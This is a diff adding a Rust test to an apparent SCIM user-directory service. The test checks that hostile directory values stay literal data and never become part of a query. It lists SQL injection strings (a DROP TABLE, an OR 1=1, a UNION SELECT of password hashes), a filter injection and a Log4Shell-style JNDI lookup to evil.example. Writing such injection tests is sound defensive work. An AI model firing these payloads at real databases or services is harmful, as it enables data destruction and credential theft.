@@ -315,3 +315,40 @@ async fn searches_find_page_and_look_up() {
     assert_eq!((mine.total, &mine.resources[0]["id"], mine.resources[0].get("members")), (1, &group.body["id"], None));
     assert_eq!((found("displayName eq \"sales\"").await.total, found("members.value eq \"x\"").await.total), (1, 0));
 }
+
+#[tokio::test]
+async fn what_a_directory_writes_is_never_a_part_of_a_statement() {
+    let scene = Scene::new().await;
+    let hostile = [
+        "Robert'); DROP TABLE app.users;--",
+        "' OR '1'='1",
+        "\" or userName pr or \"",
+        "\\' UNION SELECT password_hash FROM app.users --",
+        "%",
+        "_____",
+        "$1",
+        "${jndi:ldap://evil.example}",
+    ];
+    let mut ids = Vec::new();
+    for (at, name) in hostile.iter().enumerate() {
+        let body = json!({ "userName": format!("p{at}@acme.test"), "externalId": name, "displayName": name });
+        ids.push(id(&scene.create(body).await.unwrap()));
+    }
+    for (at, name) in hostile.iter().enumerate() {
+        // Each finds itself, whole, and nobody else.
+        let page = scene.users(Some(&format!("externalId eq {}", Value::from(*name))), 1, 100).await;
+        assert_eq!(
+            page.resources.iter().map(|found| found["id"].clone()).collect::<Vec<_>>(),
+            [json!(ids[at])],
+            "{name}"
+        );
+        assert!(scene.users(Some(&format!("userName eq {}", Value::from(*name))), 1, 100).await.resources.is_empty());
+        let group = scene.group(name, &[&ids[at]]).await.unwrap();
+        assert_eq!(group.body["displayName"], *name);
+        let renamed = json!([{ "op": "replace", "path": format!("members[value eq {}].display", Value::from(*name)), "value": name }]);
+        let _ = scene.patch_group(&id(&group), renamed).await;
+    }
+    let people = scene.users(None, 1, 100).await;
+    assert_eq!(people.resources.len(), hostile.len() + 1, "nobody is gone and nobody came");
+    assert_eq!(scene.role(&ids[0]).await, Some(Role::Member));
+}
